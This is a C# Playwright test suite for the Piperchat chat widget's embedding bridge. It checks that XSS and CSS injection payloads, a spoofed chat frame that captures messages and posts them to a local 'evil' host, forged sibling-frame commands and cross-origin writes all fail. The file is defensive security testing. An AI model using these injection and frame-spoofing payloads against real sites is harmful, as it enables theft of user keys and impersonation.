using System.Text.Json;
using Microsoft.Playwright;
using Piperchat.BrowserTests.Browsers;
using Piperchat.BrowserTests.Hosts;
using Piperchat.BrowserTests.People;

namespace Piperchat.BrowserTests.Embedding;

/// <summary>Pages that want keys, or want to be somebody: attacks 10, 11, 12 and 21 of the protocol, at the bridge.</summary>
public sealed class BridgeAttackTests(ChromiumFixture chromium)
{
    /// <summary>A page that says it is the chat, and keeps whatever is sent to it.</summary>
    private const string FalseFrame = """
        <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Not the chat</title>
        <script>
          var caught = [];
          addEventListener("message", ({ data }) => caught.push(data));
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => caught.push(data);
          parent.postMessage({ type: "piperchat:ready", v: 1, caps: ["identity", "token"] }, "*", [port2]);
          parent.postMessage({ type: "piperchat:unread", total: 7, byChannel: { main: 7 } }, "*");
        </script></head><body>Sign in here</body></html>
        """;

    [Fact]
    public async Task Attack10_script_in_a_name_a_channel_or_a_theme_stays_text()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        const string Script = "<img src=x onerror=parent.postMessage('ran','*')>";
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(
            relay.Address, $$"""<piper-chat label="{{Script}}" channel="{{Script}}" accent="red;} body { background: url(//elsewhere.example) }" pc-font="{{Script}}"></piper-chat>""")));

        await Assertions.Expect(alva.Page.Chat().GetByText("no conversation by that name")).ToBeVisibleAsync();

        await Assertions.Expect(alva.Page.Chat().GetByText(Script)).ToBeVisibleAsync();
        await Assertions.Expect(alva.Page.Chat().Locator("img")).ToHaveCountAsync(0);
        await Assertions.Expect(alva.Page.Locator("img")).ToHaveCountAsync(0);
        alva.AssertAskedOnly(site.Origin, relay.Address.ToString());
        Assert.DoesNotContain("ran", await alva.Page.EvaluateAsync<string[]>("posted.map(({ data }) => String(data))"));
    }

    [Fact]
    public async Task Attack10_script_address_as_relay_is_no_relay()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<piper-chat relay='javascript:window.ran=1'></piper-chat>")));
        await alva.Page.WaitForFunctionAsync("!!customElements.get('piper-chat')");

        await alva.Page.EvaluateAsync("document.querySelector('piper-chat').open().catch(() => {})");

        Assert.Equal(0, await alva.Page.EvaluateAsync<int>("document.querySelector('piper-chat').shadowRoot.querySelectorAll('iframe').length"));
        Assert.False(await alva.Page.EvaluateAsync<bool>("'ran' in window"));
    }

    [Fact]
    public async Task Attack11_frame_that_was_navigated_away_gets_neither_keys_nor_token()
    {
        await using var site = await HostSite.Start();
        await using var evil = await HostSite.Start("127.0.0.1");
        var falseFrame = evil.Page("/chat", FalseFrame);
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<piper-chat></piper-chat>")));
        await alva.Page.Hears("ready");
        var before = await alva.Page.EvaluateAsync<int>("heard.length");
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);

        await HostPages.FrameOf(alva.Page, relay.Address).EvaluateAsync($"setTimeout(() => {{ location.href = '{falseFrame}'; }})");
        await alva.Page.FrameLocator("piper-chat iframe").GetByText("Sign in here").WaitForAsync();
        var frame = alva.Page.Frames.Single(each => each.Url == falseFrame.ToString());
        // The page learns that the chat has gone; the frame is looked at just before it is taken away.
        await frame.EvaluateAsync("addEventListener('pagehide', () => fetch('/caught', { method: 'POST', keepalive: true, body: JSON.stringify(caught) }))");
        var outcome = await alva.Page.EvaluateAsync<string>(
            "(keys) => document.querySelector('piper-chat').setIdentity({ ...keys, username: 'alva' }).then(() => 'taken', ({ message }) => message)", keys);

        Assert.Equal("unreachable", outcome);
        await evil.Posts.WaitAsync(TestContext.Current.CancellationToken);
        var caught = evil.Posted.Single();
        Assert.All(keys.Values, key => Assert.DoesNotContain(key[..64], caught, StringComparison.Ordinal));
        Assert.DoesNotContain("set-identity", caught, StringComparison.Ordinal);
        // Nor is it believed.
        Assert.DoesNotContain("\"total\":7", await alva.Page.EvaluateAsync<string>($"JSON.stringify(heard.slice({before}))"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Attack11_keys_by_a_plain_message_are_refused_and_not_used()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", RawFrame(relay.Address)));
        await alva.Page.WaitForFunctionAsync("posted.some(({ data }) => data.type === 'piperchat:ready')");
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);

        await alva.Page.EvaluateAsync(
            "([keys, origin]) => frames[0].postMessage({ type: 'piperchat:set-identity', id: 1, username: 'alva', ...keys }, origin)",
            new object[] { keys, relay.Address.GetLeftPart(UriPartial.Authority) });

        await alva.Page.WaitForFunctionAsync("posted.some(({ data }) => data.type === 'piperchat:error' && data.code === 'use-port')");
        await alva.Page.WaitForFunctionAsync("posted.some(({ data }) => data.type === 'piperchat:result' && data.id === 1 && data.ok === false)");
        await Assertions.Expect(alva.Page.FrameLocator("iframe").GetByRole(AriaRole.Textbox, new() { Name = "Username" })).ToBeVisibleAsync();
    }

    [Fact]
    public async Task Raw_frame_takes_keys_over_the_port_of_ready_and_tells_the_window()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", RawFrame(relay.Address)));
        await alva.Page.WaitForFunctionAsync("posted.some(({ data }) => data.type === 'piperchat:ready')");
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);

        await alva.Page.EvaluateAsync("(keys) => port.postMessage({ type: 'piperchat:set-identity', username: 'alva', channel: 'support-42', ...keys })", keys);
        await alva.Page.FrameLocator("iframe").MessageBox().WaitForAsync();
        await using var bo = await Person.Start(chromium.Browser, new Uri(relay.Address, "?channel=support-42"), "bo-1");
        await bo.Say("hello");

        await alva.Page.WaitForFunctionAsync("posted.some(({ data }) => data.type === 'piperchat:message-received' && data.payload.channel === 'support-42')");
        Assert.All(
            await alva.Page.EvaluateAsync<string[]>("posted.map(({ origin }) => origin)"),
            origin => Assert.Equal(relay.Address.GetLeftPart(UriPartial.Authority), origin));
    }

    [Fact]
    public async Task Attack11_sibling_frame_is_neither_heard_nor_believed()
    {
        await using var site = await HostSite.Start();
        await using var evil = await HostSite.Start("127.0.0.1");
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        var sibling = evil.Page("/", FalseFrame);
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(
            relay.Address, $"<piper-chat channel='support'></piper-chat><iframe id='sibling' src='{sibling}' title='Advertisement'></iframe>")));
        await alva.Page.Chat().PickName("alva");
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);
        var other = alva.Page.Frames.Single(frame => frame.Url == sibling.ToString());

        await other.EvaluateAsync(
            """
            (keys) => {
              for (let i = 0; i < parent.frames.length; i++)
                for (const command of [{ type: "piperchat:hello", v: 1 }, { type: "piperchat:set-channel", channel: "elsewhere", id: 9 }, { type: "piperchat:set-identity", username: "mallory", ...keys }, { type: "piperchat:logout", id: 8 }]) {
                  const { port1, port2 } = new MessageChannel();
                  port1.onmessage = ({ data }) => caught.push(data);
                  parent.frames[i].postMessage(command, "*", [port2]);
                }
              parent.postMessage({ type: "piperchat:unread", total: 7, byChannel: {} }, "*");
            }
            """,
            keys);

        // What the page itself says next has come after all of that.
        await alva.Page.EvaluateAsync("document.querySelector('piper-chat').setTheme({ theme: 'dark' })");
        await Assertions.Expect(alva.Page.Chat().GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("support");
        await Assertions.Expect(alva.Page.Chat().MessageBox()).ToBeVisibleAsync();
        Assert.Equal(0, await alva.Page.EvaluateAsync<int>("document.querySelector('piper-chat').unread"));
        Assert.DoesNotContain("piperchat:result", await other.EvaluateAsync<string>("JSON.stringify(caught)"), StringComparison.Ordinal);
        Assert.DoesNotContain(alva.Requests, request => (request.PostData ?? "").Contains("mallory", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Attack12_page_that_is_not_on_the_list_gets_neither_frame_nor_data()
    {
        await using var site = await HostSite.Start();
        await using var stranger = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var mallory = await Person.Open(chromium.Browser, stranger.Page("/", HostPages.With(relay.Address, "<piper-chat channel='support'></piper-chat>")));

        await Assertions.Expect(mallory.Page.GetByText("Chat isn’t reachable")).ToBeVisibleAsync();

        await Assertions.Expect(mallory.Page.GetByRole(AriaRole.Button, new() { Name = "Try again" })).ToBeVisibleAsync();
        Assert.DoesNotContain(await mallory.Page.EvaluateAsync<string[]>("posted.map(({ data }) => String(data?.type))"), type => type.StartsWith("piperchat:", StringComparison.Ordinal));
        Assert.DoesNotContain(mallory.Requests, request => new Uri(request.Url).AbsolutePath is "/health" or "/events" or "/channels");
    }

    [Fact]
    public async Task Attack12_page_that_is_on_the_list_inside_one_that_is_not_gets_nothing_either()
    {
        await using var site = await HostSite.Start();
        await using var stranger = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        var inner = site.Page("/", HostPages.With(relay.Address, "<piper-chat channel='support'></piper-chat>"));
        await using var mallory = await Person.Open(chromium.Browser, stranger.Page("/", $"<!DOCTYPE html><title>Around</title><iframe src='{inner}' title='Shop'></iframe>"));

        await Assertions.Expect(mallory.Page.FrameLocator("iframe").GetByText("Chat isn’t reachable")).ToBeVisibleAsync();

        Assert.DoesNotContain(mallory.Requests, request => new Uri(request.Url).AbsolutePath == "/health");
    }

    [Fact]
    public async Task Attack12_site_that_did_not_opt_in_takes_no_keys()
    {
        await using var site = await HostSite.Start();
        var settings = HostPages.Allowing(site.Origin);
        settings["Piperchat__Embedding__InjectedIdentities"] = "false";
        await using var relay = await HostAppProcess.Start(settings: settings);
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<piper-chat></piper-chat>")));
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);

        var outcome = await alva.Page.EvaluateAsync<string>(
            "(keys) => document.querySelector('piper-chat').setIdentity({ ...keys, username: 'alva' }).then(() => 'taken', ({ message }) => message)", keys);

        Assert.Equal("identities-off", outcome);
        await Assertions.Expect(alva.Page.Chat().GetByRole(AriaRole.Textbox, new() { Name = "Username" })).ToBeVisibleAsync();
    }

    [Fact]
    public async Task Attack12_window_that_opened_the_chat_is_no_parent()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<p>Shop</p>")));
        var keys = await alva.Page.EvaluateAsync<Dictionary<string, string>>(HostPages.NewHexKeys);

        var popup = await alva.Page.RunAndWaitForPopupAsync(() => alva.Page.EvaluateAsync($"window.opened = open('{relay.Address}?embed=1&identity=host')"));
        await popup.GetByRole(AriaRole.Textbox, new() { Name = "Username" }).WaitForAsync();
        await alva.Page.EvaluateAsync(
            "(keys) => opened.postMessage({ type: 'piperchat:set-identity', id: 1, username: 'alva', ...keys }, '*')", keys);

        await Assertions.Expect(popup.GetByRole(AriaRole.Textbox, new() { Name = "Username" })).ToBeVisibleAsync();
        Assert.Empty(await alva.Page.EvaluateAsync<JsonElement[]>("posted"));
    }

    [Fact]
    public async Task Attack21_page_of_an_allowed_site_cannot_read_the_relay_nor_write_to_it_by_itself()
    {
        await using var site = await HostSite.Start();
        await using var relay = await HostAppProcess.Start(settings: HostPages.Allowing(site.Origin));
        await using var alva = await Person.Open(chromium.Browser, site.Page("/", HostPages.With(relay.Address, "<p>Shop</p>")));

        var read = await alva.Page.EvaluateAsync<string>($"fetch('{relay.Address}channels').then(() => 'read', () => 'refused')");
        await alva.Page.EvaluateAsync(
            $"fetch('{relay.Address}messages', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ content: 'forged', author: 'alva' }}) }}).catch(() => {{}})");

        Assert.Equal("refused", read);
        using var client = new HttpClient();
        Assert.DoesNotContain("forged", await client.GetStringAsync(new Uri(relay.Address, "messages"), TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    /// <summary>The snippet of the original: a frame, and no loader.</summary>
    private static string RawFrame(Uri relay) => $$"""
        <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Raw</title><link rel="icon" href="data:,">
        <script>
          var posted = [], port;
          addEventListener("message", ({ data, origin, ports }) => {
            posted.push({ data, origin });
            if (data.type === "piperchat:ready") { port = ports[0]; port.start(); }
          });
        </script></head>
        <body><iframe src="{{relay}}?embed=1&theme=light&accent=%232563eb" title="Chat" style="width:100%;height:600px"></iframe></body></html>
        """;
}
